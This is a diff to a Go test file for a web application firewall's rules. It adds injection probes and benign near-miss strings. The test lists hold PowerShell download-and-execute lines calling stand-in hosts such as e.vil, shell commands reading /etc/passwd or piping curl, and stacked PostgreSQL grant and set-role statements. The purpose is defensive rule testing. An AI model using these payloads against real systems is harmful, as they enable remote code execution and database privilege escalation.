@@ -113,9 +113,28 @@ func TestShortPayloads(t *testing.T) {
 			probe{name: v + " in JSON", method: "POST", path: "/", contentType: js, body: `{"id": "` + jsonEscape(v) + `"}`},
 		)
 	}
+	// a ninth fresh-eyes attack's (attack 13): PostgreSQL's statements
+	// that libinjection reads as no SQL, stacked after a ';' (210153)
+	for _, v := range stackedStatementAttacks {
+		misses = append(misses,
+			probe{name: v + " in the query", method: "GET", path: "/?id=" + q(v)},
+			probe{name: v + " in JSON", method: "POST", path: "/", contentType: js, body: `{"id": "` + jsonEscape(v) + `"}`},
+		)
+	}
+	// a ninth fresh-eyes attack's (attack 13): PowerShell after a
+	// separator (210151), a command and a trailing pipe (210158)
+	for _, v := range []string{"127.0.0.1;iex(iwr e.vil/x)", "x | iex", "id|", "ps|"} {
+		misses = append(misses,
+			probe{name: v + " in the query", method: "GET", path: "/read?file=" + q(v)},
+			probe{name: v + " in JSON", method: "POST", path: "/read", contentType: js, body: `{"file": "` + jsonEscape(v) + `"}`},
+		)
+	}
 	catches := []probe{
 		{name: "admin'-- (the CRS's)", method: "GET", path: "/login?user=" + q("admin'--")},
 		{name: "; sleep 5 (the CRS's)", method: "GET", path: "/ping?host=" + q("127.0.0.1; sleep 5")},
+		{name: "cat /etc/passwd| (the CRS's)", method: "GET", path: "/read?file=" + q("cat /etc/passwd|")},
+		{name: ";iwr http://x/ (the CRS's)", method: "GET", path: "/ping?host=" + q(";iwr http://x/")},
+		{name: "127.0.0.1;Invoke-Expression (iwr e.vil/x) (the CRS's)", method: "GET", path: "/ping?host=" + q("127.0.0.1;Invoke-Expression (iwr e.vil/x)")},
 	}
 	var benign []probe
 	for _, v := range []string{"the 'best' -- really", "Joe's #1 fan", "McDonald's #5", "bring it; cat lovers", "Tom & Jerry", "rock | pop",
@@ -150,7 +169,13 @@ func TestShortPayloads(t *testing.T) {
 		// "& net" and a word of prose (a sixth attack's B12, refused before)
 		// a no-break space in prose near a quote and a comment (BROKE 13's near misses)
 		"Jones'\u00a0#1 fan", "the 'best'\u00a0-- really", "it's\u00a0#1",
-		"Gross & net share price", "Tax & net use", "Sales & net users", "Revenue & net view count", "pros & net user count"} {
+		"Gross & net share price", "Tax & net use", "Sales & net users", "Revenue & net view count", "pros & net user count",
+		// near attack 13's stacked statements: prose after a ';'
+		"1; set the table", "1; lock the door", "2; vacuum the car", "1; grant access to users", "Step 1; listen up", "1; comment on this post",
+		"Note 1; vacuum full", "A; grant all on request to staff", "1; set roles for the team", "3; notify me later",
+		"1; reset the password", "2; discard the old ones", "1; lock table legs together", "Q1; revoke all on Monday from the list",
+		// near attack 13's PowerShell and trailing pipe
+		"NYSE | IEX", "cat and dog|", "id | name |", "who we are|"} {
 		benign = append(benign,
 			probe{name: v + " in the query", method: "GET", path: "/search?q=" + q(v)},
 			probe{name: v + " in JSON", method: "POST", path: "/api/notes", contentType: js, body: `{"text": "` + jsonEscape(v) + `"}`},
@@ -279,7 +304,10 @@ var shellCommandAttacks = []string{"| id", "; id", ";id", "&& id", "`id`", "x|id
 	`$($'\x69\x64')`,
 	// more expansions to nothing (a sixth fresh-eyes attack's B14)
 	"x;w$1get http://e/x", "x;wh$9oami", "x;c$2url http://e/x", `x;w$""get http://e/x`, "x;c$''url http://e/x", "x;i$'d'", "x;$'i'd",
-	"x;w`true`get http://e/x", "x;w``get http://e/x", "x;wh$(true)oami", "x;i$(:)d", "x;i`:`d", ";i$( )d", ";w${x}get x"}
+	"x;w`true`get http://e/x", "x;w``get http://e/x", "x;wh$(true)oami", "x;i$(:)d", "x;i`:`d", ";i$( )d", ";w${x}get x",
+	// PowerShell after a separator (a ninth fresh-eyes attack, attack 13)
+	"127.0.0.1;iex(iwr e.vil/x)", "127.0.0.1;Invoke-Expression (iwr e.vil/x)", ";iwr http://x/", "x | iex", "x;IEX (New-Object Net.WebClient).DownloadString('http://e.vil/x')",
+	"x;iex $env:p", "x & irm e.vil/x", "x;iwr -Uri http://e.vil/x", "x|iex;", "x;invoke-expression -Command id", `x;iex "calc"`}
 
 // shellCommandBenign is ordinary text near 210151's attacks: the fifth
 // fresh-eyes attack's F12 (Markdown tables, inline code, line lists,
@@ -301,6 +329,9 @@ var shellCommandBenign = []string{
 	"net1 & net2", "Q&A; call center", "& ^_^", "Tom & Jerry; ^^ nice",
 	// near B14
 	"costs $1; $2 more", "A; $1 idea", "x; `true` or `false`", "; $'x' is a string", "Set `id` and `true` flags",
+	// near attack 13's PowerShell: IEX, the exchange; IRM, rights management
+	"NYSE; IEX (Investors Exchange)", "| IEX |", "NYSE | IEX", "DRM; IRM v2.0", "x; iex is an alias", "Stocks; IEX $5 fee", "| iex | nyse |",
+	"markets; irm is rights management", "Q&A; Invoke-Expression is risky",
 }
 
 // TestShellCommandRule measures rule 210151's expression (as Coraza
@@ -404,6 +435,50 @@ func TestNetOnProse(t *testing.T) {
 		v += " " + pick(opts)
 		if !rx.MatchString(v) {
 			t.Errorf("%q: not refused", v)
+		}
+	}
+}
+
+// stackedStatementAttacks are a ninth fresh-eyes attack's (attack 13)
+// stacked PostgreSQL statements, which libinjection reads as no SQL.
+var stackedStatementAttacks = []string{"1;grant all on users to public", "1; revoke all on users from public", "1;set role postgres",
+	"1;lock table users", "1;comment on table users is 'x'", "1;vacuum full", "1;listen x", "1;GRANT SELECT, INSERT ON ALL TABLES IN SCHEMA public TO PUBLIC",
+	"1;grant pg_read_server_files to app", "1;set session authorization postgres", "1;/**/grant/**/all/**/on/**/users/**/to/**/public",
+	"a=1;id=7;lock users in access exclusive mode nowait", "1;notify x, 'y'", "1;load 'x'", "1;vacuum (full, analyze) users", "1;reset role",
+	"1;unlisten *", "1;checkpoint", "1;discard all", "7;comment on column users.pw is $$x$$"}
+
+// TestStackedStatements: rule 210153's operator refuses attack 13's
+// stacked statements and not prose after a ';'.
+func TestStackedStatements(t *testing.T) {
+	for _, v := range append([]string{"x';set role postgres--", "x\";lock table users;"}, stackedStatementAttacks...) {
+		if !(sqliAfterSemicolon{}).Evaluate(nil, v) {
+			t.Errorf("%q: not refused", v)
+		}
+	}
+	for _, v := range []string{"1; set the table", "1; lock the door", "2; vacuum the car", "1; grant access to users", "Step 1; listen up",
+		"1; comment on this post", "Note 1; vacuum full", "A; grant all on request to staff", "1; set roles for the team", "3; notify me later",
+		"1; load the van", "1; reset the password", "2; discard the old ones", "1; lock table legs together", "Q1; revoke all on Monday from the list",
+		"it's 1; set role later", "1;2;3", "x=1;y=2"} {
+		if (sqliAfterSemicolon{}).Evaluate(nil, v) {
+			t.Errorf("%q: refused", v)
+		}
+	}
+}
+
+// TestPerlOpenPipeRule: rule 210158 refuses a command and a trailing '|'
+// (attack 13) and not text that ends in a '|'.
+func TestPerlOpenPipeRule(t *testing.T) {
+	rx := regexp.MustCompile("(?sm)" + strings.ReplaceAll(perlOpenPipeRule(), `\"`, `"`))
+	for _, v := range []string{"id|", "cat /etc/passwd|", "whoami|", "uname -a|", "curl e.vil/x|", "ls -la /|", " id |", "cat '/etc/passwd'|", "sleep 5|",
+		"id|\n", "echo $HOME|"} {
+		if !rx.MatchString(v) {
+			t.Errorf("%q: not refused", v)
+		}
+	}
+	for _, v := range []string{"cat and dog|", "id | name |", "head|tail|", "who we are|", "| id |", "id", "cat", "x id|", "id|x", "ls more|", "the cat|",
+		"Columns: id|", "cat|dog"} {
+		if rx.MatchString(v) {
+			t.Errorf("%q: refused", v)
 		}
 	}
 }
